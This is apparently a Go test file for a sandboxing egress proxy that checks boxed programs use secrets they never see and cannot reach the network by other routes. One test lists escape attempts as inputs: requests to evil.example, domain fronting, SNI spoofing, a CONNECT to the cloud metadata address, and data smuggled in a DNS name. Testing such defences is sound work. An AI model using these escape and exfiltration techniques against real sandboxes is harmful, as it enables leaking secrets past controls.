package proxy

import (
	"bytes"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi" //nolint:gosec // git-http-backend, in a test
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/glovebox-dev/glovebox/abi"
	"github.com/glovebox-dev/glovebox/broker"
	"github.com/glovebox-dev/glovebox/internal/testenv"
)

// chamber starts programs in a bubblewrap box whose only way out is the socket of b.
type chamber struct {
	*box
	relay, etc string
	names      string // for the relay's answers, "" without
	log        *transcript
}

func newChamber(t *testing.T, b *box, relay string, names ...abi.Origin) *chamber {
	t.Helper()
	c := &chamber{box: b, relay: relay, etc: t.TempDir(), log: &transcript{t: t}}
	var list []string
	for _, o := range names {
		list = append(list, authorityOf(o))
	}
	c.names = strings.Join(list, ",")
	for name, text := range map[string]string{
		"ca.pem": string(b.CA()), "hosts": "127.0.0.1 localhost\n", "nsswitch.conf": "hosts: files dns\n",
		"resolv.conf": "nameserver 127.0.0.1\noptions timeout:1 attempts:1\n",
	} {
		if err := os.WriteFile(filepath.Join(c.etc, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	return c
}

// run runs a program in the box.
func (c *chamber) run(env []string, argv ...string) (string, error) {
	c.t.Helper()
	args := []string{
		"--unshare-all", "--unshare-user", "--die-with-parent", "--new-session", "--clearenv", "--cap-drop", "ALL", "--cap-add", "CAP_NET_BIND_SERVICE",
		"--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev", "--tmpfs", "/tmp", "--tmpfs", "/root", "--tmpfs", "/var",
		"--bind", c.Socket(), "/tmp/egress.sock", "--ro-bind", c.relay, "/tmp/relay", "--ro-bind", filepath.Join(c.etc, "ca.pem"), "/tmp/ca.pem",
	}
	for _, f := range []string{"hosts", "nsswitch.conf", "resolv.conf"} {
		args = append(args, "--ro-bind", filepath.Join(c.etc, f), "/etc/"+f)
	}
	for _, kv := range append(env, "PATH=/usr/bin:/bin", "HOME=/tmp", "GIT_TERMINAL_PROMPT=0") {
		name, value, _ := strings.Cut(kv, "=")
		args = append(args, "--setenv", name, value)
	}
	args = append(args, "--chdir", "/tmp", "--", "/tmp/relay", "--socket", "/tmp/egress.sock", "--names", c.names, "--")
	out, err := testenv.Run(c.t, nil, "bwrap", append(args, argv...)...)
	c.log.add(argv, out, err)
	return out, err
}

// transcript is kept where GLOVEBOX_TEST_TRANSCRIPT says.
type transcript struct {
	t  *testing.T
	mu sync.Mutex
}

func (l *transcript) add(argv []string, out string, err error) {
	path := os.Getenv("GLOVEBOX_TEST_TRANSCRIPT")
	if path == "" {
		return
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	f, ferr := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600) //nolint:gosec // the developer's
	if ferr != nil {
		l.t.Fatal(ferr)
	}
	defer func() { _ = f.Close() }()
	_, _ = fmt.Fprintf(f, "== %s\nbox$ %s\n%s", l.t.Name(), strings.Join(argv, " "), out)
	if err != nil {
		_, _ = fmt.Fprintf(f, "(%v)\n", err)
	}
}

func (l *transcript) note(format string, args ...any) {
	path := os.Getenv("GLOVEBOX_TEST_TRANSCRIPT")
	if path == "" {
		return
	}
	if f, err := os.OpenFile(path, os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600); err == nil { //nolint:gosec // the developer's
		_, _ = fmt.Fprintf(f, format+"\n", args...)
		_ = f.Close()
	}
}

// clients are programs with which people go out. Those that do not know of proxies go
// through the names that the relay answers for.
func clients(url, auth string) map[string][]string {
	return map[string][]string{
		"curl":    {"/usr/bin/curl", "-sS", "-H", "Authorization: " + auth, url},
		"python3": {"/usr/bin/python3", "-c", fmt.Sprintf("import urllib.request as u\nprint(u.urlopen(u.Request(%q, headers={'Authorization': %q})).read().decode())", url, auth)},
		"node":    {"/usr/bin/node", "-e", fmt.Sprintf("fetch(%q, {headers: {authorization: %q}}).then(r => r.text()).then(console.log)", url, auth)},
	}
}

func needBox(t *testing.T, programs ...string) string {
	t.Helper()
	testenv.Need(t, "bwrap", testenv.Bwrap)
	for _, p := range programs {
		testenv.Need(t, p, testenv.Program("/usr/bin/"+p))
	}
	return testenv.Build(t, "github.com/glovebox-dev/glovebox/broker/relay")
}

// The server gets the secret, the program that named it never sees it, though the server
// says it back.
func TestBoxedProgramsUseASecretThatTheyNeverSee(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"curl", "python3", "node"} {
		for mode, env := range map[string][]string{"by proxy": Environment("/tmp/ca.pem"), "by name": trustOnly("/tmp/ca.pem")} {
			t.Run(name+" "+mode, func(t *testing.T) {
				t.Parallel()
				relay := needBox(t, name)
				w := newWorld(t)
				var saw sync.Map
				api := w.serve("api.example", func(rw http.ResponseWriter, r *http.Request) {
					saw.Store(r.Header.Get("Authorization"), true)
					echo(rw, r)
				})
				b := w.box(t, abi.Rights{HTTP: []abi.HTTPRight{right(api)}, Secrets: []abi.SecretRight{bearer(api)}})
				c := newChamber(t, b, relay, api)
				argv := clients(string(api)+"/v1/me", "Bearer {{secret:gh}}")[name]
				out, err := c.run(env, argv...)
				if err != nil || strings.Contains(out, planted) || !strings.Contains(out, `auth=["Bearer [secret:gh]"]`) {
					t.Errorf("%v: %s", err, out)
				}
				_, real := saw.Load("Bearer " + planted)
				if !real {
					t.Error("the server did not get the secret")
				}
				c.log.note("server: saw_real_secret=%t\n", real)
			})
		}
	}
}

// trustOnly is for programs that do not know of proxies.
func trustOnly(ca string) []string {
	var out []string
	for _, kv := range Environment(ca) {
		if strings.HasSuffix(kv, "="+ca) || strings.HasPrefix(kv, "SSL_CERT_DIR") {
			out = append(out, kv)
		}
	}
	return out
}

// git clones over https with a token that it never sees.
func TestBoxedGitClones(t *testing.T) {
	t.Parallel()
	relay := needBox(t, "git")
	backend := "/usr/lib/git-core/git-http-backend"
	testenv.Need(t, "git-http-backend", testenv.Program(backend))
	root := t.TempDir()
	repo := filepath.Join(root, "r.git")
	work := filepath.Join(root, "work")
	env := []string{"HOME=" + root, "GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@example", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@example"}
	if err := os.Mkdir(work, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(work, "hello.txt"), bytes.Repeat([]byte("hello from a repository\n"), 5000), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"-C", work, "init", "-q", "-b", "main"}, {"-C", work, "add", "."}, {"-C", work, "commit", "-q", "-m", "first"}, {"clone", "-q", "--bare", work, repo}} {
		if out, err := testenv.Run(t, env, "git", args...); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	w := newWorld(t)
	handler := &cgi.Handler{Path: backend, Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1"}, Stderr: io.Discard}
	var authorized sync.Map
	git := w.serve("git.example", func(rw http.ResponseWriter, r *http.Request) {
		user, password, ok := r.BasicAuth()
		if !ok {
			rw.Header().Set("WWW-Authenticate", `Basic realm="git"`)
			http.Error(rw, "who are you?", http.StatusUnauthorized)
			return
		}
		authorized.Store(user+":"+password, true)
		handler.ServeHTTP(rw, r)
	})
	r := right(git)
	r.Paths = []string{"/r.git/**"}
	secret := abi.SecretRight{Name: "gh", Store: "gh-store", Inject: abi.Injection{Kind: abi.InjectBasic, User: "token"}, Only: []abi.Origin{git}}
	rights := abi.Rights{HTTP: []abi.HTTPRight{r}, Secrets: []abi.SecretRight{secret}}
	c := newChamber(t, w.box(t, rights, func(c *Config) { c.Permits[git] = broker.Permit{Opaque: true} }), relay, git)
	url := string(git) + "/r.git"
	const clone = `git -c credential.helper='!f() { echo username=token; echo "password={{secret:gh}}"; }; f' clone -q `
	script := clone + url + " out && wc -c out/hello.txt && git -C out log --format=%s"
	out, err := c.run(Environment("/tmp/ca.pem"), "/bin/sh", "-c", script)
	if err != nil || !strings.Contains(out, "120000 out/hello.txt") || !strings.Contains(out, "first") || strings.Contains(out, planted) {
		t.Errorf("%v: %s, problem %+v", err, out, w.last().Problem)
	}
	if _, ok := authorized.Load("token:" + planted); !ok {
		t.Error("the server did not get the token")
	}
	out, err = c.run(Environment("/tmp/ca.pem"), "/bin/sh", "-c", clone+strings.Replace(url, "/r.git", "/other.git", 1)+" two")
	if err == nil || !strings.Contains(out, "403") {
		t.Errorf("a repository that is not granted: %v: %s", err, out)
	}
	c = newChamber(t, w.box(t, rights), relay, git) // a pack of so regular a file cannot be looked into within bounds
	out, err = c.run(Environment("/tmp/ca.pem"), "/bin/sh", "-c", script)
	if err == nil {
		t.Errorf("what cannot be looked into: %s", out)
	}
	w.eventually(func(e broker.Event) bool { return e.Problem != nil && e.Problem.Rule == "egress/encoding" })
}

// Every way around that a program in the box could try.
func TestBoxedProgramsHaveNoOtherWay(t *testing.T) {
	t.Parallel()
	relay := needBox(t, "curl", "python3")
	w := newWorld(t)
	api := w.serve("api.example", echo)
	host := w.serve("other.example", echo) // not granted; it listens on the host's loopback
	b := w.box(t, abi.Rights{HTTP: []abi.HTTPRight{right(api)}})
	c := newChamber(t, b, relay, api)
	proxied, bare := Environment("/tmp/ca.pem"), trustOnly("/tmp/ca.pem")
	port := authorityOf(api)[strings.LastIndex(authorityOf(api), ":")+1:]
	curl := func(args ...string) []string {
		return append([]string{"/usr/bin/curl", "-sS", "--max-time", "10", "-w", "status=%{http_code} connect=%{http_connect}\n"}, args...)
	}
	python := func(code string) []string { return []string{"/usr/bin/python3", "-c", code} }
	tests := []struct {
		name string
		env  []string
		argv []string
		want string // in what it prints, or in the event
		rule string // of the event, "" if nothing comes to the broker
	}{
		{"a name that is not granted", proxied, curl("https://evil.example/"), "connect=403", ruleNotGranted},
		{"a name that is not granted, by name", bare, curl("https://evil.example/"), "Could not resolve host", ""},
		{"another SNI", bare, curl("--connect-to", "evil.example:443:api.example:"+port, "https://evil.example/"), "status=000", ruleName},
		{"domain fronting", proxied, curl("-H", "Host: evil.example", string(api)+"/"), "host header", ruleName},
		{"an address", bare, curl("https://192.0.2.7/"), "status=000", ""},
		{"an address through the proxy", proxied, curl("https://192.0.2.7/"), "connect=403", ruleNotGranted},
		{"plain http", bare, curl("http://api.example/"), "status=000", ""},
		{"a plain proxy request", proxied, curl("http://127.0.0.1:4766/"), "only CONNECT", ruleConnect},
		{"metadata on the socket", bare, python("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/tmp/egress.sock')\ns.send(b'CONNECT 169.254.169.254:80 HTTP/1.1\\r\\n\\r\\n')\nprint(s.recv(4096).decode())"), " 403 ", ruleNotGranted},
		{"a listener of the host", bare, curl("-k", strings.Replace(string(host), "other.example", "127.0.0.1", 1)), "status=000", ""},
		{"data in a DNS name", bare, python("import socket\ntry:\n  socket.getaddrinfo('c2VjcmV0.evil.example', 443)\n  print('resolved')\nexcept OSError as e: print('refused', e)"), "refused", ""},
		{"UDP", bare, python("import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ntry:\n  s.sendto(b'x', ('192.0.2.1', 443)); print('sent')\nexcept OSError as e: print('refused', e)"), "refused", ""},
		{"IPv6", bare, python("import socket\ns = socket.socket(socket.AF_INET6)\ntry:\n  s.connect(('2001:db8::1', 443)); print('connected')\nexcept OSError as e: print('refused', e)"), "refused", ""},
		{"ICMP", bare, python("import socket\ntry:\n  socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); print('open')\nexcept OSError as e: print('refused', e)"), "refused", ""},
		{"the environment", proxied, []string{"/usr/bin/env"}, "HTTPS_PROXY=http://127.0.0.1:3128", ""},
		{"privileges of the relay", bare, []string{"/bin/grep", "Cap", "/proc/self/status"}, "CapAmb:\t0000000000000000", ""},
	}
	for _, tt := range tests {
		before := len(b.w.all())
		out, _ := c.run(tt.env, tt.argv...)
		if !strings.Contains(out, tt.want) || strings.Contains(out, planted) || strings.Contains(out, "host="+authorityOf(host)) {
			t.Errorf("%s: %s", tt.name, out)
		}
		events := b.w.all()[before:]
		if tt.rule == "" && len(events) > 0 {
			t.Errorf("%s: the broker heard of it: %+v", tt.name, events)
		}
		if tt.rule != "" && (len(events) == 0 || events[0].Problem == nil || events[0].Problem.Rule != tt.rule) {
			t.Errorf("%s: %+v; want rule %s", tt.name, events, tt.rule)
		}
	}
}

// The placeholder of one box means nothing in another, whatever both are granted.
func TestPlaceholderOfAnotherBox(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	api := w.serve("api.example", echo)
	a := w.box(t, abi.Rights{HTTP: []abi.HTTPRight{right(api)}, Secrets: []abi.SecretRight{bearer(api)}})
	b := w.box(t, abi.Rights{HTTP: []abi.HTTPRight{right(api)}}, func(c *Config) { c.Box = "box-2" })
	ask := get(api, "/", "Authorization: Bearer {{secret:gh}}")
	if status, _ := a.ask(api, ask); status != 200 {
		t.Errorf("its own: %d", status)
	}
	if status, text := b.ask(api, ask); status != 403 || !strings.Contains(text, "secret/not-granted") {
		t.Errorf("the other's: %d %s", status, text)
	}
	if e := w.eventually(func(e broker.Event) bool { return e.Box == "box-2" }); e.Problem == nil || e.Dialled.IsValid() {
		t.Errorf("recorded %+v", e)
	}
	c := a.raw("")
	if c.RemoteAddr().String() == b.Socket() {
		t.Error("two boxes share a socket")
	}
}
